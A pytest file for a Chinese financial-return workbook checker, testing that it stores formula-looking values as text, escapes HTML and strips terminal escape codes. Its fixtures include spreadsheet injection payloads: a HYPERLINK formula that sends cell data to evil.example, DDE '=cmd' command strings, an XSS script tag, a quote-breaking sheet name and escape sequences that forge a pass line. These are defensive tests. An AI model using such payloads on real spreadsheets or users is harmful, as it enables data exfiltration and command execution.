"""Text stays text: no workbook the tool writes holds a formula it did not compose; HTML escaped; terminals safe."""

from __future__ import annotations

import json
import re
import subprocess
import sys
import zipfile
from pathlib import Path

import hostile_corpus as hc
import openpyxl
import pytest

from sasac_check.cli import main

EVIL = ['=HYPERLINK("http://evil.example/?"&A1,"点此")', "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "@SUM(1)"]
SHEET = '资产负债表")&HYPERLINK(封面!B14,"'
LINK = re.compile(r'^=HYPERLINK\("(?:[^"]|"")*","(?:[^"]|"")*"\)$')  # one call, two string literals, nothing else
SCRIPT = "<script>alert(1)</script>"


def formulas(path: Path) -> list[tuple[str, str, str]]:
    """(sheet, cell, formula) of every formula cell in the workbook."""
    wb = openpyxl.load_workbook(path)
    return [(ws.title, c.coordinate, str(c.value)) for ws in wb.worksheets for row in ws.iter_rows() for c in row
            if c.data_type == "f"]


def xml_formula_count(path: Path) -> int:
    with zipfile.ZipFile(path) as zf:
        return sum(zf.read(n).count(b"<f") for n in zf.namelist() if n.startswith("xl/worksheets/"))


def test_fill_stores_formula_looking_values_as_text(tmp_path: Path) -> None:
    csv = tmp_path / "v.csv"
    rows = ["sheet,item,column,value", f'封面,企业名称,值,"{EVIL[0].replace(chr(34), chr(34) * 2)}"', f"封面,填报人,值,{EVIL[1]}",
            "封面,联系电话,值,'=1+1"]
    csv.write_text("\n".join(rows) + "\n", encoding="utf-8")
    out = tmp_path / "out.xlsx"
    assert main(["fill", "--values", str(csv), "-o", str(out)]) == 0
    before = xml_formula_count(hc.ROOT / "workbooks" / "standard-return-template.xlsx")
    assert xml_formula_count(out) == before  # not one formula more than the template has
    texts = {c.value for ws in openpyxl.load_workbook(out).worksheets for row in ws.iter_rows() for c in row
             if isinstance(c.value, str) and c.data_type == "s"}
    assert {EVIL[0], EVIL[1], "=1+1"} <= texts


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "gbk", "gb18030", "utf-16"])
def test_fill_reads_values_tables_as_users_save_them(tmp_path: Path, encoding: str) -> None:
    src = (hc.ROOT / "workbooks" / "sample-values.csv").read_text(encoding="utf-8-sig")
    sep = "\t" if encoding == "utf-16" else ","  # Excel's "Unicode text" is UTF-16 with tabs
    text = src if sep == "," else "\n".join("\t".join(r) for r in _rows(src)) + "\n"
    values = tmp_path / f"v-{encoding}.csv"
    values.write_bytes(text.encode(encoding))
    out = tmp_path / f"{encoding}.xlsx"
    assert main(["fill", "--values", str(values), "-o", str(out)]) == 0
    ref = tmp_path / "ref.xlsx"
    main(["fill", "--values", str(hc.ROOT / "workbooks" / "sample-values.csv"), "-o", str(ref)])
    cells = lambda p: {(ws.title, c.coordinate): c.value for ws in openpyxl.load_workbook(p).worksheets  # noqa: E731
                       for row in ws.iter_rows() for c in row if c.value is not None}
    assert cells(out) == cells(ref)


def _rows(text: str) -> list[list[str]]:
    import csv
    import io

    return list(csv.reader(io.StringIO(text)))


def test_annotate_writes_no_formula_it_did_not_compose(tmp_path: Path) -> None:
    wb = openpyxl.load_workbook(hc.MISTAKES)
    wb["资产负债表"].title = SHEET
    wb["主要指标"]["C4"] = "=1+1"  # text typed into an indicator cell: recorded in _sasac_marks, as text
    wb["主要指标"]["C4"].data_type = "s"
    src = tmp_path / "in.xlsx"
    wb.save(src)
    first = tmp_path / "a1.xlsx"
    assert main(["check", str(src), "--no-plan", "--annotate", str(first)]) == 1
    # the accountant (or a stranger) types 说明 that look like formulas; the next run keeps them, as text
    wb = openpyxl.load_workbook(first)
    ws = wb["审核结果"]
    for r in range(3, ws.max_row + 1):
        ws.cell(r, 5).value = EVIL[r % len(EVIL)]
        ws.cell(r, 5).data_type = "s"
    again = tmp_path / "again.xlsx"
    wb.save(again)
    second = tmp_path / "a2.xlsx"
    assert main(["check", str(again), "--no-plan", "--annotate", str(second)]) == 1
    found = formulas(second)
    links = [f for s, _, f in found if s == "审核结果"]
    assert links and all(LINK.match(f) for f in links), links
    assert any(SHEET.replace('"', '""') in f for f in links)  # the name stays inside its quoted strings
    others = [(s, c, f) for s, c, f in found if s != "审核结果"]
    assert others and all(s == "主要指标" and not f.startswith(("=HYPERLINK", "=cmd", "=1+1")) for s, c, f in others), others
    out = openpyxl.load_workbook(second)
    notes = [out["审核结果"].cell(r, 5).value for r in range(3, out["审核结果"].max_row + 1)]
    assert set(notes) & set(EVIL)  # kept, as text
    marks = [c for row in out["_sasac_marks"].iter_rows() for c in row if c.value == "=1+1"]
    assert marks and all(c.data_type == "s" for c in marks)  # the previous text, recorded as text


def test_xlwings_values_are_text_unless_composed() -> None:
    code = ("from sasac_check.excel.addin_entry import as_value\nfrom sasac_check.excel.actions import link\n"
            f"import json\nprint(json.dumps([as_value(v) for v in {EVIL!r}] + [as_value(link({SHEET!r}, 'C9')), as_value(1.5)]))")
    r = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, cwd=hc.ROOT)
    got = json.loads(r.stdout.strip().splitlines()[-1])
    assert got[:4] == ["'" + v for v in EVIL]
    assert LINK.match(got[4]) and got[5] == 1.5


def _named(tmp_path: Path, name: str, code: str) -> Path:
    """The clean sample with 企业名称 and 统一社会信用代码 set to the given text (inline strings in the cover)."""
    def change(x: bytes) -> bytes:
        x = x.replace("东胜区城市建设投资集团有限公司".encode(), _xml(name).encode(), 1)
        return re.sub(rb"9115\w{14}", _xml(code).encode(), x, count=1)

    p = tmp_path / "evil.xlsx"
    p.write_bytes(hc.with_parts({hc.COVER: change}))
    return p


def _xml(s: str) -> str:
    import html

    return "".join(f"&#{ord(ch)};" if ord(ch) < 32 else ch for ch in html.escape(s, quote=False))


def test_html_review_and_text_output_carry_no_live_data(tmp_path: Path) -> None:
    code = "\x1b[2K\r  结果：通过\n\x1b[8m"
    evil = _named(tmp_path, SCRIPT + EVIL[0], code)
    out = tmp_path / "out"
    r = subprocess.run([sys.executable, "-m", "sasac_check", "batch", str(evil), "--no-progress", "--html", str(out / "r.html"),
                        "-o", str(out / "review.xlsx"), "--format", "text"], capture_output=True, text=True, cwd=hc.ROOT)
    assert r.returncode in (1, 3), r.stderr
    page = (out / "r.html").read_text(encoding="utf-8")
    assert SCRIPT not in page and "&lt;script&gt;" in page
    assert xml_formula_count(out / "review.xlsx") == 0
    assert "\x1b" not in r.stdout and "\x1b" not in r.stderr
    assert not any(line.startswith("  结果：通过") for line in r.stdout.splitlines())  # no forged line
    c = subprocess.run([sys.executable, "-m", "sasac_check", "check", str(evil), "--no-plan"], capture_output=True, text=True,
                       cwd=hc.ROOT)
    assert "\x1b" not in c.stdout and "\\x1b" in c.stdout
    assert [line for line in c.stdout.splitlines() if line.startswith("  结果：")] == [
        line for line in c.stdout.splitlines() if "结果：" in line and line.startswith("  结果：未通过")]


@pytest.mark.slow
def test_gx_data_docs_escape_return_text(tmp_path: Path) -> None:
    pytest.importorskip("great_expectations")
    evil = _named(tmp_path, SCRIPT, "91150602MA0N12345X")
    gx = tmp_path / "gx"
    r = subprocess.run([sys.executable, "-m", "sasac_check", "batch", str(evil), "--no-progress", "--gx", str(gx)],
                       capture_output=True, text=True, cwd=hc.ROOT, timeout=300)
    assert "Traceback" not in r.stderr
    pages = [p.read_text(encoding="utf-8", errors="replace") for p in gx.rglob("*.html")]
    assert pages and not any(SCRIPT in p for p in pages)
